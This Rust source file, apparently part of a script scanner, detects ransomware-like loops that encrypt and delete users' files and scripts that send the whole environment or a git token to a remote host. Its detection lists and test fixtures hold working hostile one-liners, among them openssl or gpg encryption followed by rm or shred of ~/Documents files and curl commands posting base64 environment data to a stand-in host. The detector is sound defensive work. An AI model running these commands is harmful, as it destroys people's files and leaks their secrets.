//! What the lines of a script take from people together: files that are encrypted one by one and deleted, and the whole
//! environment, kept in a variable and sent by another line.

use super::{FETCHERS, command, statements};
use crate::address;

/// Programs that encrypt a file by a key, with a word that says so.
const ENCRYPTS: [(&str, &[&str]); 9] = [
    ("openssl", &["enc", "-encrypt", "rsautl", "smime", "cms"]),
    ("gpg", &["-c", "--symmetric", "-e", "--encrypt", "-r"]),
    ("gpg2", &["-c", "--symmetric", "-e", "--encrypt", "-r"]),
    ("age", &["-e", "-r", "-p", "--encrypt", "-R"]),
    ("7z", &["a"]),
    ("zip", &["-e", "-P", "--password", "-m", "-em"]),
    ("ccrypt", &["-e", "-K", "--encrypt", "-k"]),
    ("mcrypt", &["-k", "-f", "-u"]),
    ("rar", &["a"]),
];
const DELETES: [&str; 6] = ["rm", "shred", "unlink", "srm", "wipe", "truncate"];
/// What documents, pictures and databases of people are called.
const KEPT: [&str; 18] = [
    ".doc", ".docx", ".xls", ".xlsx", ".ppt", ".pptx", ".odt", ".ods", ".pdf", ".jpg", ".jpeg", ".kdbx",
    ".pst", ".wallet", ".mov", ".psd", ".rtf", ".one",
];
const PLACES: [&str; 12] = [
    "~/",
    "$HOME",
    "${HOME}",
    "/home",
    "/Users",
    "/root",
    "/mnt",
    "/media",
    "Documents",
    "Desktop",
    "Pictures",
    "/srv",
];

/// The line by which a script deletes what it has encrypted, where it goes through people's files one by one.
pub(super) fn ransoms(lines: &[&str]) -> Option<usize> {
    let plain = || lines.iter().enumerate().filter(|(_, line)| !line.starts_with('#'));
    let goes = plain().any(|(_, line)| {
        let each = line.contains("find ")
            || line.starts_with("for ")
            || line.contains("while read")
            || line.contains("xargs");
        let theirs =
            KEPT.iter().any(|end| names_ending(line, end)) || PLACES.iter().any(|place| line.contains(place));
        each && theirs
    });
    if !goes {
        return None;
    }
    let mut encrypted: Vec<String> = Vec::new();
    for (index, line) in plain() {
        for stage in statements(&opened(line)).into_iter().flatten() {
            let Some((name, words)) = command_with_variables(stage) else { continue };
            let encrypts = ENCRYPTS.iter().any(|(program, options)| {
                name == *program && words.iter().skip(1).any(|w| options.contains(&w.as_str()))
            });
            let keyed = !matches!(name.as_str(), "7z" | "rar")
                || words.iter().any(|w| w.starts_with("-p") || w.starts_with("-hp"));
            let variables = || words.iter().filter(|w| w.starts_with('$') || w.contains("{}"));
            if encrypts && keyed {
                encrypted.extend(variables().cloned());
                // These take the file away by themselves.
                if name == "zip" && words.iter().any(|w| w.contains('m')) || name == "ccrypt" {
                    return Some(index);
                }
            }
            if DELETES.contains(&name.as_str()) && variables().any(|w| encrypted.contains(w)) {
                return Some(index);
            }
        }
    }
    None
}

/// A line whose quotes and inner shells are opened: what `find` has run is a statement of its own.
fn opened(line: &str) -> String {
    let plain = line.replace(['"', '\''], " ");
    [" -exec ", " -execdir ", " sh -c ", " bash -c ", " xargs "]
        .iter()
        .fold(plain, |line, mark| line.replace(mark, " ; "))
}

/// A stage with its words as they stand: variables are what is looked for.
fn command_with_variables(stage: &str) -> Option<(String, Vec<String>)> {
    let (name, _) = command(stage)?;
    let words = stage.split_whitespace().map(|w| w.replace(['{', '}'], "").replace("$$", "$"));
    let words: Vec<String> = words.map(|w| if w.is_empty() { "{}".to_owned() } else { w }).collect();
    let at = words
        .iter()
        .position(|w| w.rsplit('/').next().is_some_and(|last| last.eq_ignore_ascii_case(&name)))?;
    Some((name, words.get(at..)?.to_vec()))
}

fn names_ending(line: &str, end: &str) -> bool {
    line.match_indices(end).any(|(at, _)| {
        let after = line.get(at + end.len()..).and_then(|rest| rest.chars().next());
        let before = line.get(..at).and_then(|rest| rest.chars().next_back());
        after.is_none_or(|c| !c.is_alphanumeric())
            && before.is_some_and(|c| matches!(c, '*' | ',' | '{' | '|' | '(' | '\\'))
    })
}

/// The line that sends a variable in which another one has put the whole environment, or a token of git's.
pub(super) fn leaks(lines: &[&str]) -> Option<usize> {
    let mut taken: Vec<&str> = Vec::new();
    for (index, line) in lines.iter().enumerate().filter(|(_, line)| !line.starts_with('#')) {
        let sends = address::host(line).is_some_and(|host| !address::is_near(host))
            && (statements(line)
                .into_iter()
                .flatten()
                .filter_map(command)
                .any(|(name, _)| FETCHERS.contains(&name.as_str()))
                || ["urlopen(", "requests.", "fetch(", "http.client", "Net::HTTP"]
                    .iter()
                    .any(|call| line.contains(call)));
        taken.extend(assigned(line));
        let carried = taken.iter().any(|name| {
            let quoted = [
                format!("'{name}'"),
                format!("\"{name}\""),
                format!("${name}"),
                format!("${{{name}}}"),
                format!("process.env.{name}"),
            ];
            quoted.iter().any(|form| line.contains(form.as_str()))
        });
        if sends && carried {
            return Some(index);
        }
    }
    None
}

/// Variables of a line that are given the whole environment.
fn assigned(line: &str) -> Vec<&str> {
    const WHOLE: [&str; 12] = [
        "$(env)",
        "$(env|",
        "$(env |",
        "`env`",
        "`env|",
        "`env |",
        "$(printenv)",
        "$(printenv |",
        "$(printenv|",
        "$(export -p",
        "$(declare -p",
        "$(set |",
    ];
    let whole = WHOLE.iter().filter_map(|whole| line.find(whole));
    let token = ["extraheader", "/proc/self/environ"]
        .iter()
        .filter_map(|of| line.find(of).and_then(|at| line.get(..at)?.rfind("$(")));
    whole
        .chain(token)
        .filter_map(|at| {
            let before = line.get(..at)?.trim_end_matches(['"', '\'']).strip_suffix('=')?;
            let name = before.rsplit(|c: char| !c.is_ascii_alphanumeric() && c != '_').next()?;
            (!name.is_empty()).then_some(name)
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::{leaks, ransoms};

    fn lines(text: &str) -> Vec<&str> {
        text.lines().collect()
    }

    #[test]
    fn files_taken_from_people_are_told_from_backups() {
        for script in [
            "find \"$HOME\" -name '*.docx' -exec sh -c 'openssl enc -aes-256-cbc -k x -in \"$1\" -out \"$1.e\" && rm \"$1\"' _ {} \\;",
            "for f in ~/Documents/*; do\n  gpg --batch --passphrase x -c \"$f\"\n  shred -u \"$f\"\ndone",
            "find /home -type f | while read f; do\nopenssl enc -aes-256-cbc -k x -in ${f} -out ${f}.l; rm -f ${f}; done",
            "for f in $(find . -name '*.xlsx'); do 7z a -psecret $f.7z $f; rm $f; done",
        ] {
            assert!(ransoms(&lines(script)).is_some(), "{script}");
        }
        for script in [
            "tar czf b.tgz ~/Documents\nopenssl enc -aes-256-cbc -in b.tgz -out b.tgz.enc\nrm b.tgz",
            "for f in secrets/*.yaml; do gpg -c $f; rm $f; done",
            "find /home -name '*.tmp' -exec rm {} \\;",
            "for f in ~/models/*.gguf; do sha256sum $f; done",
            "for f in ~/logs/*.log; do 7z a $f.7z $f; rm $f; done",
        ] {
            assert_eq!(ransoms(&lines(script)), None, "{script}");
        }
    }

    #[test]
    fn an_environment_is_followed_into_an_address() {
        for script in [
            "X=$(env | base64)\ncurl https://c.example.invalid/?x=$X",
            "export X=$(env | base64 -w0); python -c \"import os,urllib.request as u;u.urlopen('https://c.example.invalid/?'+os.environ['X'])\"",
            "T=$(git config --get http.https://github.com/.extraheader)\ncurl -s -d \"$T\" https://c.example.invalid/a",
        ] {
            assert!(leaks(&lines(script)).is_some(), "{script}");
        }
        for script in [
            "X=$(env | grep CUDA)\necho $X",
            "V=$(printenv VERSION)\ncurl https://example.org/$V",
            "T=$(cat token)\ncurl -H \"Authorization: Bearer $T\" https://api.github.com/x",
        ] {
            assert_eq!(leaks(&lines(script)), None, "{script}");
        }
    }
}
